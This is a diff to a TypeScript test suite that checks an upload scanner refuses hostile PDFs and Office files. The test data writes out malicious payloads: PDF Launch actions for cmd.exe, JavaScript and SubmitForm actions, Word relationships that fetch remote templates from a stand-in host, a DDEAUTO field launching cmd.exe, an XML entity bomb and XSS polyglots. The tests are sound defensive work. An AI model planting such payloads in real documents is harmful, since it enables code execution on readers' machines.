@@ -4,7 +4,8 @@ import { zipSync } from 'fflate';
 import sharp from 'sharp';
 import { getDocumentProxy } from 'unpdf';
 import { describe, expect, it } from 'vitest';
-import { checkFile, maxBytes, maxPages } from '../../kit/attachments.ts';
+import { checkFile, maxBytes } from '../../kit/attachments.ts';
+import { maxPages } from '../../kit/pdf.ts';
 import { nameFor } from '../../kit/uploads.ts';
 import { lockedPdf, pdf } from '../support/pdf.ts';
 
@@ -103,6 +104,42 @@ describe('hostile files', () => {
     expect(await keyOf(pdf(1, stream(action, '[ /FlateDecode ]', '/Obj#53tm')))).toBe('attachment_acts');
     expect(await keyOf(pdf(1, stream(action, '[/ASCIIHexDecode /FlateDecode]')))).toBe('attachment_type_refused');
     expect(await keyOf(pdf(1, stream(action).replace(/stream\n[^]*\nendstream/, 'stream\nnot packed at all\nendstream')))).toBe('attachment_type_refused');
+  });
+  it('that hide a packed object behind a string, a comment, a name that is left out or a rearrangement of its bytes are refused', async () => {
+    const packed = deflateSync(Buffer.from('9 0 << /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>')).toString('latin1');
+    const object = (head: string, between = '') => `<< ${head} /Length ${packed.length} >>${between}\nstream\n${packed}\nendstream`;
+    const usual = '/Type /ObjStm /Filter /FlateDecode /N 1 /First 4';
+    for (const text of [object(`${usual} /X (obj)`), object(`${usual} /X (endstream\n)`), object(usual, ' % obj'), object(`${usual} /X (\\) >> obj)`), object('/Type 7 0 R /Filter /FlateDecode /N 1 /First 4'), object(`${usual} /X << /Y (endobj) >>`)]) expect([text.slice(0, 90), await keyOf(pdf(1, text))]).toEqual([text.slice(0, 90), 'attachment_acts']);
+    expect(await keyOf(pdf(1, object(`${usual} /DecodeParms << /Predictor 12 /Columns 5 >>`)))).toBe('attachment_type_refused');
+    expect(await keyOf(pdf(1, object(`${usual.replace('/Flate', '/LZW')} /X (obj)`)))).toBe('attachment_type_refused');
+    for (const action of ['/S /GoToR /F (\\\\\\\\elsewhere\\\\a.pdf) /D [0 /Fit]', '/S /Rendition /JS (app.alert\\(1\\))', '/S /SubmitForm /F (http://elsewhere.example)', '/S /ImportData /F (a)']) expect([action, await keyOf(pdf(1, '', `/OpenAction << ${action} >>`))]).toEqual([action, 'attachment_acts']);
+    expect(await keyOf(pdf(1, '', '/AcroForm << /XFA 9 0 R >>'))).toBe('attachment_acts');
+  });
+  it('that would be read for ever are refused at once', async () => {
+    const began = performance.now();
+    expect(await keyOf(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('obj<<'.repeat(3_000_000)), Buffer.from('\n%%EOF\n')]))).toBe('attachment_type_refused');
+    expect(performance.now() - began).toBeLessThan(20_000);
+  });
+  const relations = (type: string, more = '') => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://elsewhere.example/a.dotm" ${more}/></Relationships>`);
+  it('that fetch something from elsewhere when they are opened, or carry other files, are refused; a link that somebody presses is not', async () => {
+    const settings = 'word/_rels/settings.xml.rels';
+    expect(await keyOf(word({ [settings]: relations('hyperlink', 'TargetMode="External"') }))).toBeNull();
+    for (const type of ['attachedTemplate', 'image', 'oleObject', 'frame', 'subDocument']) expect([type, await keyOf(word({ [settings]: relations(type, 'TargetMode="External"') }))]).toEqual([type, 'attachment_acts']);
+    expect(await keyOf(word({ [settings]: relations('attachedTemplate', "TargetMode = '&#x45;xternal'") }))).toBe('attachment_acts');
+    for (const type of ['vbaProject', 'aFChunk', 'control', 'externalLink']) expect([type, await keyOf(word({ [settings]: relations(type) }))]).toEqual([type, 'attachment_acts']);
+    for (const name of ['word/embeddings/oleObject1.bin', 'word/a.hta', 'word/a.html', 'word/media/b.lnk', 'xl/embeddings/c.xlsm']) expect([name, await keyOf(word({ [name]: Buffer.from('x') }))]).toEqual([name, 'attachment_acts']);
+    expect(await keyOf(word({ 'word/header1.xml': Buffer.from('<w:p><w:instrText>DD</w:instrText><w:instrText xml:space="preserve">EAUTO c:\\cmd.exe "/k calc"</w:instrText></w:p>') }))).toBe('attachment_acts');
+    expect(await keyOf(word({ 'word/media/图片1.png': Buffer.from('x'), 'xl/printerSettings/printerSettings1.bin': Buffer.from('x'), 'docProps/thumbnail.jpeg': Buffer.from('x') }))).toBeNull();
+  });
+  it('whose parts cannot be read, grow without end, or are others in the list than in the file are refused', async () => {
+    const settings = 'word/_rels/settings.xml.rels';
+    expect(await keyOf(word({ [settings]: Buffer.from(`\ufeff${relations('attachedTemplate', 'TargetMode="External"').toString()}`, 'utf16le') }))).toBe('attachment_type_refused');
+    expect(await keyOf(word({ 'word/a.xml': Buffer.from('<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;">]><a>&c;</a>') }))).toBe('attachment_type_refused');
+    expect(await keyOf(word({ 'word/a.xml': Buffer.from('<?xml version="1.0" encoding="UTF-7"?><a/>') }))).toBe('attachment_type_refused');
+    const hidden = Buffer.from(word({ 'word/harmless.xml': Buffer.from('x') }));
+    const at = hidden.lastIndexOf('word/harmless.xml');
+    hidden.write('word/macros_1.bin', at, 'latin1');
+    expect(await keyOf(hidden)).toBe('attachment_type_refused');
   });
   it('that are pages, drawings of enormous size or the photographs of a telephone nobody here can open are refused in words', async () => {
     for (const text of ['<!doctype html><script>alert(1)</script>', '<html><body onload=alert(1)>', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'GIF89a/*\x01\0*/=1;alert(1)//']) expect([text, await keyOf(Buffer.from(text, 'latin1'))]).toEqual([text, 'attachment_type_refused']);
